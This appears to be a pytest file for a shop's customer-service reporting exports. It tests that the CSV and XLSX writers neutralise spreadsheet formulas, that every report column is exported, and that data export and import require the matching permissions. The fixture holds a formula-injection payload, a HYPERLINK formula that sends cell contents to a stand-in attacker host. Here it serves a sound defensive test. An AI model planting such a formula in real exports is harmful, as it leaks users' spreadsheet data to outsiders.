"""The one export writer and the report exports: every column the monitoring table shows,
formulas never run from imported text, `data.export` checked by the service, and imports
needing `data.import` (issues 9, 16, 18)."""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from datetime import date

import pytest

from app.services.common import export
from app.services.common.errors import PermissionDenied
from app.services.reporting.catalogue import METRICS
from app.services.reporting.reports import export_report

D = date(2026, 11, 11)
EVIL = '=HYPERLINK("http://evil.example/?"&B3,"查看详情")'
CHATS = (
    "conversation_id,buyer,agent,sender,sent_at,content\n"
    f'c1,b1,"{EVIL.replace(chr(34), chr(34) * 2)}",buyer,2026-11-11 09:00:00,在吗\n'
    f'c1,b1,"{EVIL.replace(chr(34), chr(34) * 2)}",agent,2026-11-11 09:02:30,在的\n'
    "c2,b2,小店:B,buyer,2026-11-11 10:00:00,+1 还有货吗\n"
    "c2,b2,小店:B,agent,2026-11-11 10:00:20,有\n"
)


@pytest.fixture
def loaded(shop, owner, tmp_path):  # type: ignore[no-untyped-def]
    p = tmp_path / "chats.csv"
    p.write_text(CHATS, encoding="utf-8")
    shop.imports.import_file(owner, "chats", p)
    return shop


def test_formulas_in_imported_text_stay_text(loaded, owner, tmp_path):
    from openpyxl import load_workbook

    r = loaded.reports.agent_report(owner, D, D)
    assert EVIL in [a.agent for a in r.agents]  # the nick itself is kept as imported
    x = export_report(owner, r, "xlsx", tmp_path / "r.xlsx")
    ws = load_workbook(x).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert all(not (isinstance(c.value, str) and c.value.startswith("=")) for c in cells)
    assert "'" + EVIL in [c.value for c in cells]
    assert isinstance(ws["B2"].value, int)  # numbers stay numbers
    c = export_report(owner, r, "csv", tmp_path / "r.csv")
    rows = list(csv.reader(c.read_text(encoding="utf-8-sig").splitlines()))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert [row[0] for row in rows if EVIL in row[0]] == ["'" + EVIL]


def test_csv_and_xlsx_carry_every_column_the_table_shows(loaded, owner, tmp_path):
    from openpyxl import load_workbook

    r = loaded.reports.agent_report(owner, D, D)
    extras = loaded.monitoring.extra_figures(owner, D, D)
    c = export_report(owner, r, "csv", tmp_path / "r.csv", extras)
    rows = list(csv.reader(c.read_text(encoding="utf-8-sig").splitlines()))
    assert {"慢响应", "3分钟回复率", "答问比"} <= set(rows[0])
    assert len(rows[0]) == 1 + len(METRICS)
    col = rows[0].index("慢响应")
    shop = rows[-1]
    assert shop[0] == "全店" and int(shop[col]) == extras.shop.slow_responses == 1
    assert float(shop[rows[0].index("答问比")]) == pytest.approx(1.0)
    x = export_report(owner, r, "xlsx", tmp_path / "r.xlsx", extras)
    ws = load_workbook(x).worksheets[0]
    header = [cell.value for cell in ws[1]]
    assert header == rows[0]
    assert ws.cell(row=2, column=header.index("3分钟回复率") + 1).number_format == "0.00%"
    j = export_report(owner, r, "json", tmp_path / "r.json", extras)
    data = json.loads(j.read_text(encoding="utf-8"))
    assert "slow_responses" not in data["shop"] and "answer_ratio" not in data["agents"][0]


def test_export_needs_data_export(loaded, owner, tmp_path):
    r = loaded.reports.agent_report(owner, D, D)
    analyst = replace(owner, is_main=False, permissions=frozenset({"data.performance"}))
    with pytest.raises(PermissionDenied):
        export_report(analyst, r, "csv", tmp_path / "r.csv")
    assert not (tmp_path / "r.csv").exists()


def test_import_needs_data_import(shop, owner, tmp_path):
    """A 质检 role with only 绩效报表 could import before (issue 16)."""
    p = tmp_path / "chats.csv"
    p.write_text(CHATS, encoding="utf-8")
    checker = replace(owner, is_main=False, permissions=frozenset({"data.performance", "cs.history"}))
    for kind in ("chats", "orders", "ratings"):
        with pytest.raises(PermissionDenied):
            shop.imports.import_file(checker, kind, p)
    importer = replace(owner, is_main=False, permissions=frozenset({"data.import"}))
    assert shop.imports.import_file(importer, "chats", p).added == 4


def test_super_administrator_preset_may_import():
    from app.services.accounts.roles import PRESET_ROLES

    assert "data.import" in PRESET_ROLES["super_admin"][2]


def test_writer_neutralises_every_formula_start(tmp_path):
    from openpyxl import load_workbook

    texts = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "普通", "a=b"]
    p = export.write_csv(tmp_path / "w.csv", ["文本", "数"], [[t, 1.5] for t in texts])
    rows = list(csv.reader(p.read_text(encoding="utf-8-sig").splitlines()[1:]))
    assert [r[0] for r in rows if r][:4] == ["'=1+1", "'+1", "'-1", "'@SUM(A1)"]
    x = export.write_xlsx(tmp_path / "w.xlsx", [export.Sheet("s", ["文本", "数"], [[t, 1.5] for t in texts])])
    ws = load_workbook(x).active
    got = [ws.cell(row=i, column=1).value for i in range(2, 10)]
    assert got[:5] == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx"] and got[6:] == ["普通", "a=b"]
    assert got[5].startswith("'")  # (Excel's XML reads the CR back as a newline)
    assert all(ws.cell(row=i, column=2).value == 1.5 for i in range(2, 10))
